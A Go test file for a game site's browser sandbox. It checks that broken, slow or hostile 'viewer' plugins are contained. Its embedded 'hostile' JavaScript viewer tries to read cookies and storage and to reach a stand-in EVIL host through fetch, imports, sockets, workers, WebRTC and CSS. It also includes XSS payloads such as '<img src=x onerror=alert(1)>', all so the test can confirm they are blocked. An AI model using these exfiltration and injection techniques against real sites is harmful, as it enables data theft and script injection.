package browser

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"colosseum/internal/test/long"
)

func TestBrokenViewerIsReplacedByTheText(t *testing.T) {
	long.Only(t, "it breaks a viewer in each way")
	const head = "export const start = () => ({}); "
	tests := []struct{ name, viewer, notice string }{
		{"does not parse", "export const start = (;", "SyntaxError: Unexpected token ';', viewer.js:1:23)"},
		{"exports nothing", "const x = 1;", "does not export a function start"},
		{"throws at the start", "export function start() { throw new Error('no start'); } export function read() {} export function draw() {}", "no start, viewer.js:1:33)"},
		{"throws at a line", head + "export function read() { throw new Error('no line'); } export function draw() { return ''; }", "no line, viewer.js:1:"},
		{"throws when it draws", head + "export function read() {} export function draw() { throw new Error('no picture'); }", "no picture, viewer.js:1:"},
		{"throws later", head + "export function read() {} export function draw() { setTimeout(() => { throw new Error('too late'); }, 10); return ''; }", "too late, viewer.js:1:"},
		{"goes elsewhere", head + "export function read() {} export function draw() { document.location.href = '/'; return ''; }", "document is not defined"},
		{"draws what is not allowed", head + "export function read() {} export const draw = (_, { html }) => html('iframe', { src: '/' });", "cannot draw <iframe>"},
	}
	h := start(t, "roshambo")
	window := open(t, 800, 600)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := *window
			b.t = t
			writeViewer(t, h.plugins, tt.viewer)
			alice := dial(t, h)
			id := alice.create("broken", 100, 1)
			alice.join(id, "alice")
			alice.play("ROCK")
			b.visit(h.url + "/match/" + id)
			b.await("document.querySelector('#notice').textContent.includes(" + quote(tt.notice) + ")")
			b.await("document.querySelector('pre.text').textContent.includes('ROCK')")
			alice.play("PAPER")
			b.await("document.querySelector('pre.text').textContent.includes('PAPER')")
		})
	}
	t.Run("is late", func(t *testing.T) {
		b := *window
		b.t = t
		lateViewerBeginsAnew(t, h, &b)
	})
}

// lateViewer is a viewer that never answers after the first round in pages in English. A test
// changes the language, so that it answers when it begins anew.
const lateViewer = `
export const start = (match) => ({ english: match.language === "en", lines: 0 });
export function read(state) {
	state.lines++;
	while (state.english && state.lines > 5);
}
export const draw = (state, { html }) => html("p", { id: "lines" }, String(state.lines));
`

// lateViewerBeginsAnew shows a board whose viewer is late once, and then always until the
// person lets it begin anew.
func lateViewerBeginsAnew(t *testing.T, h *host, b *browser) {
	writeViewer(t, h.plugins, lateViewer)
	alice := dial(t, h)
	id := alice.create("late", 100, 1)
	alice.join(id, "alice")
	alice.play("ROCK")
	language := func(lang string, impatient bool) {
		b.text(fmt.Sprintf("(document.documentElement.lang = %q, window.impatient = %t)", lang, impatient))
	}
	shows := func(lines int) {
		b.enter()
		b.await(fmt.Sprintf("document.querySelector('#lines').textContent === '%d'", lines))
		b.leave()
		b.await("document.querySelector('.late').textContent === '' && !document.querySelector('.outline, pre.text') && document.querySelector('#notice').textContent === ''")
	}
	b.visit(h.url + "/match/" + id)
	shows(5)
	language("en", true)
	alice.play("PAPER")
	b.await("document.querySelector('.late').textContent.includes('The board is slow to answer')")
	b.shoot("late")
	language("it", true)
	b.await("document.querySelector('.late').textContent.includes('begins anew') && document.querySelector('.outline')")
	b.shoot("anew")
	language("it", false)
	shows(7)

	b.visit(h.url + "/match/" + id + "?impatient")
	b.await("document.querySelector('pre.text').textContent.includes('PAPER') && document.querySelector('#notice').textContent.includes('does not answer')")
	if text := b.text("document.querySelector('pre.text').textContent + document.querySelector('main').innerText"); strings.Contains(text, "ServerBot") || strings.Contains(text, "has no board") {
		b.fatal("got a name of a stream, or that the game has no board")
	}
	b.shoot("never")
	language("it", false)
	b.text("(history.replaceState(null, '', location.pathname), document.querySelector('.again button').click())")
	shows(7)
}

// hostile is a viewer that tries to reach the page and the network in every way that a
// worker or a picture has, and draws the results.
const hostile = `
const out = {};
const attempt = async (name, f) => {
	const late = new Promise((_, no) => setTimeout(no, 1000));
	late.catch(() => {}); // a rejection that nobody handles would be an error of the viewer
	try { out[name] = "DONE " + String(await Promise.race([f(), late])).slice(0, 60); } catch (error) { out[name] = "refused"; }
};
const evil = "EVIL";
const opens = (C, address) => () => new Promise((yes, no) => { const s = new C(address); s.onopen = yes; s.onerror = no; });
const code = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
let tried = false;
async function attack() {
	await attempt("parent", () => parent.document.title);
	await attempt("document", () => document.cookie);
	await attempt("storage", () => localStorage.getItem("name"));
	await attempt("database", () => new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = yes; r.onerror = no; }));
	await attempt("caches", () => caches.open("x"));
	await attempt("fetch", () => fetch(evil + "/fetch"));
	await attempt("fetch without an answer", () => fetch(evil + "/fetch", { mode: "no-cors", keepalive: true }));
	await attempt("fetch home", () => fetch("HOME/api/lobby"));
	await attempt("old fetch", () => { const r = new XMLHttpRequest(); r.open("GET", evil + "/xhr", false); r.send(); });
	await attempt("import", () => import(evil + "/import.js"));
	await attempt("import home", () => import("HOME/assets/dom.js"));
	await attempt("old import", () => importScripts(evil + "/import.js"));
	await attempt("beacon", () => { if (!navigator.sendBeacon(evil + "/beacon")) throw 0; });
	await attempt("socket", opens(WebSocket, evil.replace("http", "ws") + "/socket"));
	await attempt("socket home", opens(WebSocket, "HOME/".replace("http", "ws")));
	await attempt("events", opens(EventSource, evil + "/events"));
	await attempt("transport", () => new WebTransport(evil.replace("http:", "https:") + "/").ready);
	await attempt("call", () => {
		const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] });
		c.createDataChannel("x");
		c.createOffer().then((o) => c.setLocalDescription(o));
		return new Promise((yes) => setTimeout(yes, 500));
	});
	await attempt("worker", () => new Promise((yes, no) => {
		const w = new Worker(code("fetch('" + evil + "/worker').then(() => postMessage(1), () => postMessage(0))"));
		w.onmessage = (e) => e.data ? yes() : no();
		w.onerror = no;
	}));
	await attempt("worker from there", () => new Promise((yes, no) => { const w = new Worker(evil + "/worker.js"); w.onmessage = yes; w.onerror = no; }));
	await attempt("leaving", () => { location.href = evil + "/"; throw 0; });
	await attempt("popup", () => open(evil + "/popup"));
	out.finished = "yes";
}
export const start = () => ({});
export function read() {}
export function draw(state, page) {
	if (!tried) { tried = true; attack().then(() => page.redraw()); }
	postMessage({ send: "ROCK", height: "x", moves: [{ at: {}, text: { a: 1 }, seat: -5 }], code: "", room: "x" });
	page.send("ROCK");
	return page.html("pre", { id: "out", style: "background: url(" + evil + "/style)" },
		page.html("style", null, "@import url(" + evil + "/import); pre { background: url(" + evil + "/css) } @font-face { font-family: x; src: url(" + evil + "/font) } b { font-family: x }"),
		page.html("b", null, "<img src=" + evil + "/markup>"), JSON.stringify(out));
}
export const status = () => ({
	caption: "<img src=x onerror=alert(1)>", goal: { a: 1 }, turn: "x", seat: -1,
	players: [{ name: "<script>alert(1)</script>", marker: "evil", score: { toString: null } }, null, 7],
	choices: [{ line: { a: 1 }, label: "<b>" }],
});
`

// outside is a server that a viewer must not reach.
type outside struct {
	url, stun string
	reached   atomic.Int64 // TCP connections and UDP packets
}

func newOutside(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		t.Logf("the viewer reached %s", r.URL.Path)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	server.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			o.reached.Add(1)
		}
	}
	server.Start()
	t.Cleanup(server.Close)
	stun, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = stun.Close() })
	go func() { // ends when stun is closed
		for {
			if _, _, err := stun.ReadFrom(make([]byte, 2000)); err != nil {
				return
			}
			o.reached.Add(1)
		}
	}()
	o.url, o.stun = server.URL, stun.LocalAddr().String()
	return o
}

func TestHostileViewerReachesNothing(t *testing.T) {
	h := start(t, "roshambo")
	evil := newOutside(t)
	writeViewer(t, h.plugins, strings.NewReplacer("EVIL", evil.url, "STUN", evil.stun, "HOME", h.url).Replace(hostile))
	alice := dial(t, h)
	id := alice.create("hostile", 100, 1)
	alice.join(id, "alice")
	alice.play("ROCK")
	b := open(t, 1000, 700)
	b.visit(h.url + "/match/" + id)
	b.enter()
	b.await("document.querySelector('#out').textContent.includes('finished')")
	if out := b.text("document.querySelector('#out').textContent"); strings.Contains(out, "DONE") {
		t.Errorf("got %s, want nothing DONE", out)
	}
	b.leave()
	if got := b.text("location.href"); got != h.url+"/match/"+id {
		t.Errorf("got the page %s, want the match", got)
	}
	b.await("document.querySelector('#caption').textContent === '<img src=x onerror=alert(1)>'")
	if n := b.text("document.querySelectorAll('#caption *, #players script, #choices button').length"); n != "0" {
		t.Errorf("got %s elements of the viewer in the page, want 0", n)
	}
	if n := evil.reached.Load(); n != 0 {
		t.Errorf("got %d connections or packets, want 0", n)
	}
}
